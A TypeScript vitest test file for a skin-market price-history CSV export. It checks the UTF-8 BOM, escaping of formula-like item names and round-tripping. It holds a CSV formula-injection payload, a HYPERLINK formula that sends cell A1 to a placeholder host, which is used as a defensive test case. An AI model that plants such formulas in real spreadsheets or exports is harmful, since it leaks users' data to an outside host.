/**
 * The price-history CSV as a spreadsheet opens it: item names from the service are text it must not run as
 * formulas, and names like "StatTrak™" or "★" must survive (UTF-8 with a BOM, as the other exports write).
 */
import { describe, expect, it } from 'vitest';
import { readCsv } from '../../../shared/csv/read';
import { ExportTable, toCsv } from './export-rows';

function table(items: string[]): ExportTable {
  const t = new ExportTable();
  items.forEach((item, i) => {
    t.time.push(Date.UTC(2026, 0, 1) + i * 60_000);
    t.item.push(item);
    t.market.push('buff163');
    t.side.push('ask');
    t.price.push(1_250 + i);
    t.low.push(null);
    t.high.push(null);
    t.resolution.push(0);
  });
  return t;
}

const HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"click")';

describe('price-history CSV', () => {
  const items = [
    HOSTILE,
    'StatTrak™ AK-47 | Redline (Field-Tested)',
    '★ Karambit | Fade (Factory New)',
    '-5% off',
    '@sum',
    'AK-47 | Redline, "Field-Tested"',
  ];
  const bytes = toCsv(table(items));

  it('starts with the UTF-8 byte order mark', () => {
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('guards item names a spreadsheet would run as formulas', () => {
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    const lines = text.split('\r\n');
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://example.invalid/?""&A1,""click"")"`);
    expect(lines[4]).toContain(",'-5% off,");
    expect(lines[5]).toContain(",'@sum,");
  });

  it('reads back (through the one CSV reader) with the same names, non-ASCII included', () => {
    const { records } = readCsv(new TextDecoder().decode(bytes));
    expect(records[0]!.fields).toEqual([
      'time_utc',
      'time_ms',
      'item',
      'market',
      'side',
      'price',
      'low',
      'high',
      'resolution_ms',
    ]);
    expect(records.slice(1).map((r) => r.fields[2])).toEqual(items);
    expect(records.slice(1).map((r) => r.fields[5])).toEqual(items.map((_, i) => String(1_250 + i)));
  });
});
